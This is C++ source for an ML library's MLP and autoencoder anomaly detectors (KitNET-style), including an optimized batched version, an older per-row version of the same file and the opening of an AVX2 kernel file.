  explicit LogisticRegression(LinearConfig cfg = {}) : LinearModel(cfg) {}
  std::string name() const override { return "LogisticRegression"; }

 protected:
  void update(std::span<const double> x, double y, double lr,
              double class_weight) override;
  double to_score(double m) const override;
};

}  // namespace lumen::ml
