#include "ml/mlp.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "common/parallel.h"
#include "features/stats.h"
#include "ml/dense.h"

namespace lumen::ml {

namespace {
double sigmoid(double x) { return 1.0 / (1.0 + std::exp(-x)); }
}  // namespace

// ----------------------------------------------------------------- Mlp

void Mlp::fit_standardizer(const FeatureTable& X) {
  mean_.assign(X.cols, 0.0);
  inv_sd_.assign(X.cols, 1.0);
  for (size_t c = 0; c < X.cols; ++c) {
    features::RunningStats rs;
    for (size_t r = 0; r < X.rows; ++r) rs.add(X.at(r, c));
    mean_[c] = rs.mean();
    const double sd = rs.stddev();
    inv_sd_[c] = sd > 1e-12 ? 1.0 / sd : 1.0;
  }
}

std::vector<double> Mlp::standardized(std::span<const double> x) const {
  std::vector<double> z(x.size());
  for (size_t c = 0; c < x.size(); ++c) z[c] = (x[c] - mean_[c]) * inv_sd_[c];
  return z;
}

void Mlp::standardize_block(const FeatureTable& X, size_t lo, size_t hi,
                            double* z) const {
  for (size_t r = lo; r < hi; ++r) {
    const auto x = X.row(r);
    double* zr = z + (r - lo) * X.cols;
    for (size_t c = 0; c < X.cols; ++c) zr[c] = (x[c] - mean_[c]) * inv_sd_[c];
  }
}

// Pre-PR row-at-a-time forward; kept as the reference scorer.
double Mlp::forward(std::span<const double> x,
                    std::vector<std::vector<double>>* acts) const {
  std::vector<double> cur(x.begin(), x.end());
  if (acts != nullptr) acts->push_back(cur);
  for (size_t li = 0; li < layers_.size(); ++li) {
    const Layer& L = layers_[li];
    std::vector<double> next(L.out, 0.0);
    const bool last = li + 1 == layers_.size();
    for (size_t o = 0; o < L.out; ++o) {
      double s = L.b[o];
      for (size_t i = 0; i < L.in; ++i) s += L.w[o * L.in + i] * cur[i];
      next[o] = last ? sigmoid(s) : std::max(0.0, s);  // ReLU hidden
    }
    cur = std::move(next);
    if (acts != nullptr) acts->push_back(cur);
  }
  return cur.empty() ? 0.0 : cur[0];
}

void Mlp::train_batch(const FeatureTable& X, const std::vector<size_t>& order,
                      size_t lo, size_t hi, double lr, double w_pos,
                      double w_neg, std::vector<std::vector<double>>& acts,
                      std::vector<double>& delta,
                      std::vector<double>& delta_prev) {
  const size_t B = hi - lo;
  // acts[l] is the B x dims[l] activation matrix entering layer l;
  // acts[L] is the B x 1 sigmoid output.
  acts[0].resize(B * X.cols);
  for (size_t b = 0; b < B; ++b) {
    const auto x = X.row(order[lo + b]);
    double* z = acts[0].data() + b * X.cols;
    for (size_t c = 0; c < X.cols; ++c) z[c] = (x[c] - mean_[c]) * inv_sd_[c];
  }
  const size_t L = layers_.size();
  for (size_t li = 0; li < L; ++li) {
    const Layer& lay = layers_[li];
    acts[li + 1].resize(B * lay.out);
    dense::gemm_nt(B, lay.out, lay.in, acts[li].data(), lay.in, lay.w.data(),
                   lay.in, lay.b.data(), 0.0, acts[li + 1].data(), lay.out);
    if (li + 1 == L) {
      dense::sigmoid_sweep(B * lay.out, acts[li + 1].data());
    } else {
      dense::relu_sweep(B * lay.out, acts[li + 1].data());
    }
  }

  // Output delta for sigmoid + cross-entropy: class_weight * (p - target).
  delta.resize(B);
  for (size_t b = 0; b < B; ++b) {
    const int label = X.labels[order[lo + b]];
    const double target = label != 0 ? 1.0 : 0.0;
    const double cw = label != 0 ? w_pos : w_neg;
    delta[b] = cw * (acts[L][b] - target);
  }

  for (size_t li = L; li-- > 0;) {
    Layer& lay = layers_[li];
    // Backprop to the previous activation with the pre-update weights,
    // then apply the summed minibatch gradient.
    if (li > 0) {
      delta_prev.resize(B * lay.in);
      dense::gemm_nn(B, lay.in, lay.out, delta.data(), lay.out, lay.w.data(),
                     lay.in, 0.0, delta_prev.data(), lay.in);
      const std::vector<double>& a_in = acts[li];  // ReLU outputs
      for (size_t i = 0; i < B * lay.in; ++i) {
        if (a_in[i] <= 0.0) delta_prev[i] = 0.0;
      }
    }
    dense::gemm_tn(lay.out, lay.in, B, -lr, delta.data(), lay.out,
                   acts[li].data(), lay.in, lay.w.data(), lay.in);
    for (size_t b = 0; b < B; ++b) {
      const double* db = delta.data() + b * lay.out;
      for (size_t o = 0; o < lay.out; ++o) lay.b[o] -= lr * db[o];
    }
    if (li > 0) delta.swap(delta_prev);
  }
}

void Mlp::fit(const FeatureTable& X) {
  fit_standardizer(X);
  layers_.clear();
  Rng rng(cfg_.seed);
  size_t in_dim = X.cols;
  std::vector<size_t> dims = cfg_.hidden;
  dims.push_back(1);  // sigmoid output unit
  for (size_t d : dims) {
    Layer L;
    L.in = in_dim;
    L.out = d;
    L.w.resize(L.out * L.in);
    L.b.assign(L.out, 0.0);
    const double bound = 1.0 / std::sqrt(static_cast<double>(L.in));
    for (double& w : L.w) w = rng.uniform(-bound, bound);
    layers_.push_back(std::move(L));
    in_dim = d;
  }
  if (X.rows == 0) {
    seal();
    return;
  }

  // Class-balanced sample weights.
  size_t n_pos = 0;
  for (int y : X.labels) n_pos += (y != 0);
  const size_t n_neg = X.rows - n_pos;
  const double w_pos = n_pos > 0 ? static_cast<double>(X.rows) / (2.0 * n_pos) : 1.0;
  const double w_neg = n_neg > 0 ? static_cast<double>(X.rows) / (2.0 * n_neg) : 1.0;

  std::vector<size_t> order(X.rows);
  std::iota(order.begin(), order.end(), 0);

  const size_t batch = std::max<size_t>(1, cfg_.batch);
  std::vector<std::vector<double>> acts(layers_.size() + 1);
  std::vector<double> delta, delta_prev;
  for (size_t e = 0; e < cfg_.epochs; ++e) {
    rng.shuffle(order);
    const double lr = cfg_.lr / (1.0 + 0.1 * static_cast<double>(e));
    for (size_t lo = 0; lo < X.rows; lo += batch) {
      const size_t hi = std::min(X.rows, lo + batch);
      train_batch(X, order, lo, hi, lr, w_pos, w_neg, acts, delta,
                  delta_prev);
    }
  }
  seal();
}

void Mlp::seal() {
  packed_.resize(layers_.size());
  for (size_t li = 0; li < layers_.size(); ++li) {
    const Layer& L = layers_[li];
    packed_[li].pack(L.out, L.in, L.w.data(), L.in, L.b.data());
  }
}

void Mlp::score_rows(const double* x, size_t m, size_t ldx, double* out,
                     RowsScratch& scratch) const {
  if (packed_.empty()) {
    std::fill(out, out + m, 0.0);
    return;
  }
  const size_t cols = layers_.front().in;
  scratch.z.resize(m * cols);
  for (size_t i = 0; i < m; ++i) {
    const double* xi = x + i * ldx;
    double* zi = scratch.z.data() + i * cols;
    for (size_t c = 0; c < cols; ++c) zi[c] = (xi[c] - mean_[c]) * inv_sd_[c];
  }
  std::vector<double>* cur = &scratch.z;
  std::vector<double>* nxt = &scratch.a;
  size_t ld = cols;
  for (size_t li = 0; li < layers_.size(); ++li) {
    const dense::PackedDense& P = packed_[li];
    const size_t lp = P.padded_out();
    nxt->resize(m * lp);
    P.apply(m, cur->data(), ld, nxt->data(), lp);
    // Per-row sweeps over the true (unpadded) width keep every row's
    // activation math independent of the batch size m.
    for (size_t i = 0; i < m; ++i) {
      double* ai = nxt->data() + i * lp;
      if (li + 1 == layers_.size()) {
        dense::sigmoid_sweep(P.out_dim(), ai);
      } else {
        dense::relu_sweep(P.out_dim(), ai);
      }
    }
    std::swap(cur, nxt);
    if (nxt == &scratch.z) nxt = &scratch.b;
    ld = lp;
  }
  for (size_t i = 0; i < m; ++i) out[i] = (*cur)[i * ld];
}

double Mlp::score_row(std::span<const double> x) const {
  ScoreScratch scratch;
  return score_row(x, scratch);
}

double Mlp::score_row(std::span<const double> x, ScoreScratch& scratch) const {
  scratch.a.resize(x.size());
  for (size_t c = 0; c < x.size(); ++c) {
    scratch.a[c] = (x[c] - mean_[c]) * inv_sd_[c];
  }
  std::vector<double>* cur = &scratch.a;
  std::vector<double>* nxt = &scratch.b;
  for (size_t li = 0; li < layers_.size(); ++li) {
    const Layer& L = layers_[li];
    nxt->resize(L.out);
    dense::gemv(L.out, L.in, L.w.data(), L.in, cur->data(), L.b.data(),
                nxt->data());
    if (li + 1 == layers_.size()) {
      dense::sigmoid_sweep(L.out, nxt->data());
    } else {
      dense::relu_sweep(L.out, nxt->data());
    }
    std::swap(cur, nxt);
  }
  return cur->empty() ? 0.0 : (*cur)[0];
}

std::vector<double> Mlp::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (layers_.empty()) return out;
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        const size_t m = hi - lo;
        thread_local std::vector<double> a, b;
        a.resize(m * X.cols);
        standardize_block(X, lo, hi, a.data());
        std::vector<double>* cur = &a;
        std::vector<double>* nxt = &b;
        for (size_t li = 0; li < layers_.size(); ++li) {
          const Layer& L = layers_[li];
          nxt->resize(m * L.out);
          dense::gemm_nt(m, L.out, L.in, cur->data(), L.in, L.w.data(), L.in,
                         L.b.data(), 0.0, nxt->data(), L.out);
          if (li + 1 == layers_.size()) {
            dense::sigmoid_sweep(m * L.out, nxt->data());
          } else {
            dense::relu_sweep(m * L.out, nxt->data());
          }
          std::swap(cur, nxt);
        }
        for (size_t b2 = 0; b2 < m; ++b2) out[lo + b2] = (*cur)[b2];
      },
      /*min_parallel=*/2);
  return out;
}

std::vector<double> Mlp::score_perrow(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  parallel_for(
      0, X.rows,
      [&](size_t r) { out[r] = forward(standardized(X.row(r)), nullptr); },
      /*min_parallel=*/64);
  return out;
}

std::vector<int> Mlp::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

// ------------------------------------------------------- AutoEncoderCore

AutoEncoderCore::AutoEncoderCore(size_t dim, double hidden_ratio, double lr,
                                 uint64_t seed)
    : dim_(dim),
      hidden_(std::max<size_t>(
          1, static_cast<size_t>(std::ceil(hidden_ratio * static_cast<double>(dim))))),
      lr_(lr) {
  Rng rng(seed);
  const double bound = 1.0 / std::sqrt(static_cast<double>(std::max<size_t>(dim_, 1)));
  w1_.resize(hidden_ * dim_);
  b1_.assign(hidden_, 0.0);
  w2_.resize(dim_ * hidden_);
  b2_.assign(dim_, 0.0);
  for (double& w : w1_) w = rng.uniform(-bound, bound);
  for (double& w : w2_) w = rng.uniform(-bound, bound);
  norm_min_.assign(dim_, 0.0);
  norm_max_.assign(dim_, 1.0);
}

void AutoEncoderCore::update_norm(std::span<const double> x) {
  if (!norm_init_) {
    for (size_t i = 0; i < dim_; ++i) {
      norm_min_[i] = x[i];
      norm_max_[i] = x[i];
    }
    norm_init_ = true;
    return;
  }
  for (size_t i = 0; i < dim_; ++i) {
    norm_min_[i] = std::min(norm_min_[i], x[i]);
    norm_max_[i] = std::max(norm_max_[i], x[i]);
  }
}

std::vector<double> AutoEncoderCore::normalize(std::span<const double> x) const {
  std::vector<double> z(dim_, 0.0);
  normalize_into(x, z);
  return z;
}

void AutoEncoderCore::normalize_into(std::span<const double> x,
                                     std::vector<double>& z) const {
  z.resize(dim_);
  for (size_t i = 0; i < dim_; ++i) {
    const double range = norm_max_[i] - norm_min_[i];
    z[i] = range > 1e-12 ? (x[i] - norm_min_[i]) / range : 0.0;
    z[i] = std::clamp(z[i], 0.0, 1.0);
  }
}

double AutoEncoderCore::train_sample(std::span<const double> x) {
  sealed_ = false;  // weights are about to change; score_rows repacks via seal()
  update_norm(x);
  normalize_into(x, tz_);
  const std::vector<double>& z = tz_;

  // Forward: two GEMVs with fused sigmoid sweeps.
  th_.resize(hidden_);
  dense::gemv(hidden_, dim_, w1_.data(), dim_, z.data(), b1_.data(),
              th_.data());
  dense::sigmoid_sweep(hidden_, th_.data());
  ty_.resize(dim_);
  dense::gemv(dim_, hidden_, w2_.data(), hidden_, th_.data(), b2_.data(),
              ty_.data());
  dense::sigmoid_sweep(dim_, ty_.data());

  double mse = 0.0;
  for (size_t i = 0; i < dim_; ++i) {
    const double e = ty_[i] - z[i];
    mse += e * e;
  }
  const double rmse = std::sqrt(mse / static_cast<double>(dim_));

  // Backprop (MSE, sigmoid everywhere). dh must use the pre-update w2.
  tdy_.resize(dim_);
  for (size_t o = 0; o < dim_; ++o) {
    tdy_[o] = (ty_[o] - z[o]) * ty_[o] * (1.0 - ty_[o]);
  }
  tdh_.resize(hidden_);
  dense::gemv_t(dim_, hidden_, w2_.data(), hidden_, tdy_.data(), tdh_.data());
  dense::ger(dim_, hidden_, -lr_, tdy_.data(), th_.data(), w2_.data(),
             hidden_);
  dense::axpy(dim_, -lr_, tdy_.data(), b2_.data());

  tdv_.resize(hidden_);
  for (size_t o = 0; o < hidden_; ++o) {
    tdv_[o] = tdh_[o] * th_[o] * (1.0 - th_[o]);
  }
  dense::ger(hidden_, dim_, -lr_, tdv_.data(), z.data(), w1_.data(), dim_);
  dense::axpy(hidden_, -lr_, tdv_.data(), b1_.data());
  return rmse;
}

double AutoEncoderCore::score_sample(std::span<const double> x) const {
  ScoreScratch scratch;
  return score_sample(x, scratch);
}

double AutoEncoderCore::score_sample(std::span<const double> x,
                                     ScoreScratch& scratch) const {
  normalize_into(x, scratch.z);
  const std::vector<double>& z = scratch.z;
  scratch.h.resize(hidden_);
  std::vector<double>& h = scratch.h;
  dense::gemv(hidden_, dim_, w1_.data(), dim_, z.data(), b1_.data(), h.data());
  dense::sigmoid_sweep(hidden_, h.data());
  double mse = 0.0;
  for (size_t o = 0; o < dim_; ++o) {
    const double s =
        sigmoid(b2_[o] + dense::dot(hidden_, w2_.data() + o * hidden_, h.data()));
    const double e = s - z[o];
    mse += e * e;
  }
  return std::sqrt(mse / static_cast<double>(dim_));
}

void AutoEncoderCore::score_batch(const double* x, size_t m, size_t ldx,
                                  double* out, BatchScratch& scratch) const {
  scratch.z.resize(m * dim_);
  // Hoist the per-column reciprocal range out of the row loop: dim_
  // divisions per block instead of one per element (divisions dominate the
  // normalize cost at KitNET-sized layers). Multiplying by 1/range instead
  // of dividing differs from the per-row path by at most 1 ulp.
  scratch.inv.resize(dim_);
  for (size_t c = 0; c < dim_; ++c) {
    const double range = norm_max_[c] - norm_min_[c];
    scratch.inv[c] = range > 1e-12 ? 1.0 / range : 0.0;
  }
  for (size_t i = 0; i < m; ++i) {
    const double* xi = x + i * ldx;
    double* zi = scratch.z.data() + i * dim_;
    for (size_t c = 0; c < dim_; ++c) {
      zi[c] = std::clamp((xi[c] - norm_min_[c]) * scratch.inv[c], 0.0, 1.0);
    }
  }
  scratch.h.resize(m * hidden_);
  dense::gemm_nt(m, hidden_, dim_, scratch.z.data(), dim_, w1_.data(), dim_,
                 b1_.data(), 0.0, scratch.h.data(), hidden_);
  // Sweep activations per row, not over the whole m x hidden_ block: the
  // sweep kernels' vector/scalar split depends on the sweep length, so a
  // block-wide sweep makes each row's score depend on the batch size m.
  // Per-row sweeps keep score_batch bit-identical across any partitioning
  // of the same rows (whole-table batch run vs per-epoch streaming run).
  for (size_t i = 0; i < m; ++i) {
    dense::sigmoid_sweep(hidden_, scratch.h.data() + i * hidden_);
  }
  scratch.y.resize(m * dim_);
  dense::gemm_nt(m, dim_, hidden_, scratch.h.data(), hidden_, w2_.data(),
                 hidden_, b2_.data(), 0.0, scratch.y.data(), dim_);
  for (size_t i = 0; i < m; ++i) {
    dense::sigmoid_sweep(dim_, scratch.y.data() + i * dim_);
  }
  for (size_t i = 0; i < m; ++i) {
    const double* zi = scratch.z.data() + i * dim_;
    const double* yi = scratch.y.data() + i * dim_;
    double mse = 0.0;
    for (size_t c = 0; c < dim_; ++c) {
      const double e = yi[c] - zi[c];
      mse += e * e;
    }
    out[i] = std::sqrt(mse / static_cast<double>(dim_));
  }
}

void AutoEncoderCore::seal() {
  enc_.pack(hidden_, dim_, w1_.data(), dim_, b1_.data());
  dec_.pack(dim_, hidden_, w2_.data(), hidden_, b2_.data());
  sealed_ = true;
}

void AutoEncoderCore::score_rows(const double* x, size_t m, size_t ldx,
                                 double* out, RowsScratch& scratch) const {
  if (!sealed_) {
    for (size_t i = 0; i < m; ++i) {
      out[i] = score_sample(std::span<const double>(x + i * ldx, dim_),
                            scratch.row);
    }
    return;
  }
  const size_t hp = enc_.padded_out();
  const size_t dp = dec_.padded_out();
  // Same hoisted-reciprocal normalization as score_batch; inv depends only
  // on the (sealed) normalization ranges, never on m.
  scratch.inv.resize(dim_);
  for (size_t c = 0; c < dim_; ++c) {
    const double range = norm_max_[c] - norm_min_[c];
    scratch.inv[c] = range > 1e-12 ? 1.0 / range : 0.0;
  }
  scratch.z.resize(m * dim_);
  for (size_t i = 0; i < m; ++i) {
    const double* xi = x + i * ldx;
    double* zi = scratch.z.data() + i * dim_;
    for (size_t c = 0; c < dim_; ++c) {
      zi[c] = std::clamp((xi[c] - norm_min_[c]) * scratch.inv[c], 0.0, 1.0);
    }
  }
  scratch.h.resize(m * hp);
  enc_.apply(m, scratch.z.data(), dim_, scratch.h.data(), hp);
  // Activations sweep per row (true width, padded stride): the sweep
  // kernels' vector/scalar split depends on the sweep length, so sweeping
  // the whole m x hp block would make row results depend on m.
  for (size_t i = 0; i < m; ++i) {
    dense::sigmoid_sweep(hidden_, scratch.h.data() + i * hp);
  }
  scratch.y.resize(m * dp);
  dec_.apply(m, scratch.h.data(), hp, scratch.y.data(), dp);
  for (size_t i = 0; i < m; ++i) {
    double* yi = scratch.y.data() + i * dp;
    dense::sigmoid_sweep(dim_, yi);
    const double* zi = scratch.z.data() + i * dim_;
    double mse = 0.0;
    for (size_t c = 0; c < dim_; ++c) {
      const double e = yi[c] - zi[c];
      mse += e * e;
    }
    out[i] = std::sqrt(mse / static_cast<double>(dim_));
  }
}

// --------------------------------------------------- AutoEncoderDetector

void AutoEncoderDetector::fit(const FeatureTable& X) {
  ae_ = std::make_unique<AutoEncoderCore>(X.cols, cfg_.hidden_ratio, cfg_.lr,
                                          cfg_.seed);
  const std::vector<size_t> rows = benign_rows(X);
  for (size_t e = 0; e < cfg_.epochs; ++e) {
    for (size_t r : rows) ae_->train_sample(X.row(r));
  }
  ae_->seal();
  // Calibrate through the same blocked path score() uses, so the threshold
  // and the scores it gates share bit-identical math.
  std::vector<double> s(rows.size(), 0.0);
  AutoEncoderCore::BatchScratch scratch;
  std::vector<double> gather;
  for (size_t lo = 0; lo < rows.size(); lo += dense::kScoreBlock) {
    const size_t hi = std::min(rows.size(), lo + dense::kScoreBlock);
    const size_t m = hi - lo;
    gather.resize(m * X.cols);
    for (size_t i = 0; i < m; ++i) {
      const auto row = X.row(rows[lo + i]);
      std::copy(row.begin(), row.end(), gather.begin() + i * X.cols);
    }
    ae_->score_batch(gather.data(), m, X.cols, s.data() + lo, scratch);
  }
  threshold_ = quantile_threshold(std::move(s), cfg_.quantile);
}

std::vector<double> AutoEncoderDetector::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (!ae_) return out;
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        thread_local AutoEncoderCore::BatchScratch scratch;
        ae_->score_batch(X.data.data() + lo * X.cols, hi - lo, X.cols,
                         out.data() + lo, scratch);
      },
      /*min_parallel=*/2);
  return out;
}

std::vector<double> AutoEncoderDetector::score_perrow(
    const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (!ae_) return out;
  parallel_for(
      0, X.rows, [&](size_t r) { out[r] = ae_->score_sample(X.row(r)); },
      /*min_parallel=*/64);
  return out;
}

std::vector<int> AutoEncoderDetector::predict(const FeatureTable& X) const {
  return threshold_predict(score(X), threshold_);
}

}  // namespace lumen::ml
