#include "ml/mlp.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "common/parallel.h"
#include "features/stats.h"

namespace lumen::ml {

namespace {
double sigmoid(double x) { return 1.0 / (1.0 + std::exp(-x)); }
}  // namespace

// ----------------------------------------------------------------- Mlp

void Mlp::fit_standardizer(const FeatureTable& X) {
  mean_.assign(X.cols, 0.0);
  inv_sd_.assign(X.cols, 1.0);
  for (size_t c = 0; c < X.cols; ++c) {
    features::RunningStats rs;
    for (size_t r = 0; r < X.rows; ++r) rs.add(X.at(r, c));
    mean_[c] = rs.mean();
    const double sd = rs.stddev();
    inv_sd_[c] = sd > 1e-12 ? 1.0 / sd : 1.0;
  }
}

std::vector<double> Mlp::standardized(std::span<const double> x) const {
  std::vector<double> z(x.size());
  for (size_t c = 0; c < x.size(); ++c) z[c] = (x[c] - mean_[c]) * inv_sd_[c];
  return z;
}

double Mlp::forward(std::span<const double> x,
                    std::vector<std::vector<double>>* acts) const {
  std::vector<double> cur(x.begin(), x.end());
  if (acts != nullptr) acts->push_back(cur);
  for (size_t li = 0; li < layers_.size(); ++li) {
    const Layer& L = layers_[li];
    std::vector<double> next(L.out, 0.0);
    const bool last = li + 1 == layers_.size();
    for (size_t o = 0; o < L.out; ++o) {
      double s = L.b[o];
      for (size_t i = 0; i < L.in; ++i) s += L.w[o * L.in + i] * cur[i];
      next[o] = last ? sigmoid(s) : std::max(0.0, s);  // ReLU hidden
    }
    cur = std::move(next);
    if (acts != nullptr) acts->push_back(cur);
  }
  return cur.empty() ? 0.0 : cur[0];
}

void Mlp::fit(const FeatureTable& X) {
  fit_standardizer(X);
  layers_.clear();
  Rng rng(cfg_.seed);
  size_t in_dim = X.cols;
  std::vector<size_t> dims = cfg_.hidden;
  dims.push_back(1);  // sigmoid output unit
  for (size_t d : dims) {
    Layer L;
    L.in = in_dim;
    L.out = d;
    L.w.resize(L.out * L.in);
    L.b.assign(L.out, 0.0);
    const double bound = 1.0 / std::sqrt(static_cast<double>(L.in));
    for (double& w : L.w) w = rng.uniform(-bound, bound);
    layers_.push_back(std::move(L));
    in_dim = d;
  }
  if (X.rows == 0) return;

  // Class-balanced sample weights.
  size_t n_pos = 0;
  for (int y : X.labels) n_pos += (y != 0);
  const size_t n_neg = X.rows - n_pos;
  const double w_pos = n_pos > 0 ? static_cast<double>(X.rows) / (2.0 * n_pos) : 1.0;
  const double w_neg = n_neg > 0 ? static_cast<double>(X.rows) / (2.0 * n_neg) : 1.0;

  std::vector<size_t> order(X.rows);
  std::iota(order.begin(), order.end(), 0);

  for (size_t e = 0; e < cfg_.epochs; ++e) {
    rng.shuffle(order);
    const double lr = cfg_.lr / (1.0 + 0.1 * static_cast<double>(e));
    for (size_t r : order) {
      std::vector<std::vector<double>> acts;
      const std::vector<double> z = standardized(X.row(r));
      const double p = forward(z, &acts);
      const double target = X.labels[r] != 0 ? 1.0 : 0.0;
      const double cw = X.labels[r] != 0 ? w_pos : w_neg;
      // Backprop: output delta for sigmoid + cross-entropy is (p - target).
      std::vector<double> delta = {cw * (p - target)};
      for (size_t li = layers_.size(); li-- > 0;) {
        Layer& L = layers_[li];
        const std::vector<double>& a_in = acts[li];
        const std::vector<double>& a_out = acts[li + 1];
        std::vector<double> prev_delta(L.in, 0.0);
        for (size_t o = 0; o < L.out; ++o) {
          double d = delta[o];
          if (li + 1 != layers_.size() && a_out[o] <= 0.0) d = 0.0;  // ReLU'
          for (size_t i = 0; i < L.in; ++i) {
            prev_delta[i] += L.w[o * L.in + i] * d;
            L.w[o * L.in + i] -= lr * d * a_in[i];
          }
          L.b[o] -= lr * d;
        }
        delta = std::move(prev_delta);
      }
    }
  }
}

std::vector<double> Mlp::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  parallel_for(
      0, X.rows,
      [&](size_t r) { out[r] = forward(standardized(X.row(r)), nullptr); },
      /*min_parallel=*/64);
  return out;
}

std::vector<int> Mlp::predict(const FeatureTable& X) const {
  std::vector<double> s = score(X);
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = s[r] >= 0.5 ? 1 : 0;
  return out;
}

// ------------------------------------------------------- AutoEncoderCore

AutoEncoderCore::AutoEncoderCore(size_t dim, double hidden_ratio, double lr,
                                 uint64_t seed)
    : dim_(dim),
      hidden_(std::max<size_t>(
          1, static_cast<size_t>(std::ceil(hidden_ratio * static_cast<double>(dim))))),
      lr_(lr) {
  Rng rng(seed);
  const double bound = 1.0 / std::sqrt(static_cast<double>(std::max<size_t>(dim_, 1)));
  w1_.resize(hidden_ * dim_);
  b1_.assign(hidden_, 0.0);
  w2_.resize(dim_ * hidden_);
  b2_.assign(dim_, 0.0);
  for (double& w : w1_) w = rng.uniform(-bound, bound);
  for (double& w : w2_) w = rng.uniform(-bound, bound);
  norm_min_.assign(dim_, 0.0);
  norm_max_.assign(dim_, 1.0);
}

void AutoEncoderCore::update_norm(std::span<const double> x) {
  if (!norm_init_) {
    for (size_t i = 0; i < dim_; ++i) {
      norm_min_[i] = x[i];
      norm_max_[i] = x[i];
    }
    norm_init_ = true;
    return;
  }
  for (size_t i = 0; i < dim_; ++i) {
    norm_min_[i] = std::min(norm_min_[i], x[i]);
    norm_max_[i] = std::max(norm_max_[i], x[i]);
  }
}

std::vector<double> AutoEncoderCore::normalize(std::span<const double> x) const {
  std::vector<double> z(dim_, 0.0);
  normalize_into(x, z);
  return z;
}

void AutoEncoderCore::normalize_into(std::span<const double> x,
                                     std::vector<double>& z) const {
  z.resize(dim_);
  for (size_t i = 0; i < dim_; ++i) {
    const double range = norm_max_[i] - norm_min_[i];
    z[i] = range > 1e-12 ? (x[i] - norm_min_[i]) / range : 0.0;
    z[i] = std::clamp(z[i], 0.0, 1.0);
  }
}

double AutoEncoderCore::train_sample(std::span<const double> x) {
  update_norm(x);
  const std::vector<double> z = normalize(x);

  // Forward.
  std::vector<double> h(hidden_);
  for (size_t o = 0; o < hidden_; ++o) {
    double s = b1_[o];
    for (size_t i = 0; i < dim_; ++i) s += w1_[o * dim_ + i] * z[i];
    h[o] = sigmoid(s);
  }
  std::vector<double> y(dim_);
  for (size_t o = 0; o < dim_; ++o) {
    double s = b2_[o];
    for (size_t i = 0; i < hidden_; ++i) s += w2_[o * hidden_ + i] * h[i];
    y[o] = sigmoid(s);
  }

  double mse = 0.0;
  for (size_t i = 0; i < dim_; ++i) {
    const double e = y[i] - z[i];
    mse += e * e;
  }
  const double rmse = std::sqrt(mse / static_cast<double>(dim_));

  // Backprop (MSE, sigmoid everywhere).
  std::vector<double> dy(dim_);
  for (size_t o = 0; o < dim_; ++o) {
    dy[o] = (y[o] - z[o]) * y[o] * (1.0 - y[o]);
  }
  std::vector<double> dh(hidden_, 0.0);
  for (size_t o = 0; o < dim_; ++o) {
    for (size_t i = 0; i < hidden_; ++i) {
      dh[i] += w2_[o * hidden_ + i] * dy[o];
      w2_[o * hidden_ + i] -= lr_ * dy[o] * h[i];
    }
    b2_[o] -= lr_ * dy[o];
  }
  for (size_t o = 0; o < hidden_; ++o) {
    const double d = dh[o] * h[o] * (1.0 - h[o]);
    for (size_t i = 0; i < dim_; ++i) {
      w1_[o * dim_ + i] -= lr_ * d * z[i];
    }
    b1_[o] -= lr_ * d;
  }
  return rmse;
}

double AutoEncoderCore::score_sample(std::span<const double> x) const {
  ScoreScratch scratch;
  return score_sample(x, scratch);
}

double AutoEncoderCore::score_sample(std::span<const double> x,
                                     ScoreScratch& scratch) const {
  normalize_into(x, scratch.z);
  const std::vector<double>& z = scratch.z;
  scratch.h.resize(hidden_);
  std::vector<double>& h = scratch.h;
  for (size_t o = 0; o < hidden_; ++o) {
    double s = b1_[o];
    for (size_t i = 0; i < dim_; ++i) s += w1_[o * dim_ + i] * z[i];
    h[o] = sigmoid(s);
  }
  double mse = 0.0;
  for (size_t o = 0; o < dim_; ++o) {
    double s = b2_[o];
    for (size_t i = 0; i < hidden_; ++i) s += w2_[o * hidden_ + i] * h[i];
    const double e = sigmoid(s) - z[o];
    mse += e * e;
  }
  return std::sqrt(mse / static_cast<double>(dim_));
}

// --------------------------------------------------- AutoEncoderDetector

void AutoEncoderDetector::fit(const FeatureTable& X) {
  ae_ = std::make_unique<AutoEncoderCore>(X.cols, cfg_.hidden_ratio, cfg_.lr,
                                          cfg_.seed);
  const std::vector<size_t> rows = benign_rows(X);
  for (size_t e = 0; e < cfg_.epochs; ++e) {
    for (size_t r : rows) ae_->train_sample(X.row(r));
  }
  std::vector<double> s;
  s.reserve(rows.size());
  for (size_t r : rows) s.push_back(ae_->score_sample(X.row(r)));
  threshold_ = quantile_threshold(std::move(s), cfg_.quantile);
}

std::vector<double> AutoEncoderDetector::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (!ae_) return out;
  parallel_for(
      0, X.rows, [&](size_t r) { out[r] = ae_->score_sample(X.row(r)); },
      /*min_parallel=*/64);
  return out;
}

std::vector<int> AutoEncoderDetector::predict(const FeatureTable& X) const {
  return threshold_predict(score(X), threshold_);
}

}  // namespace lumen::ml
