// AVX2/FMA float32 kernels for the compiled inference plans. Like
// dense_avx2.cpp, this is compiled with -mavx2 -mfma and selected only
// after the runtime cpuid check, so nothing here may leak into a header.
//
// The f32 panels pad output columns to 8 (kPackPadF32), so every column
// chunk is one full __m256 vector: a KitNET-sized layer (~10 x 8) is a
// single register column held across the whole k loop. exp uses the
// Cephes single-precision polynomial (~1 ulp over the clamped range).
#include "ml/compiled.h"

#ifdef LUMEN_DENSE_HAVE_AVX2

#include <immintrin.h>

#include <cmath>
#include <cstddef>

namespace lumen::ml::compiled {

namespace {

// ------------------------------------------------------------- vector exp
//
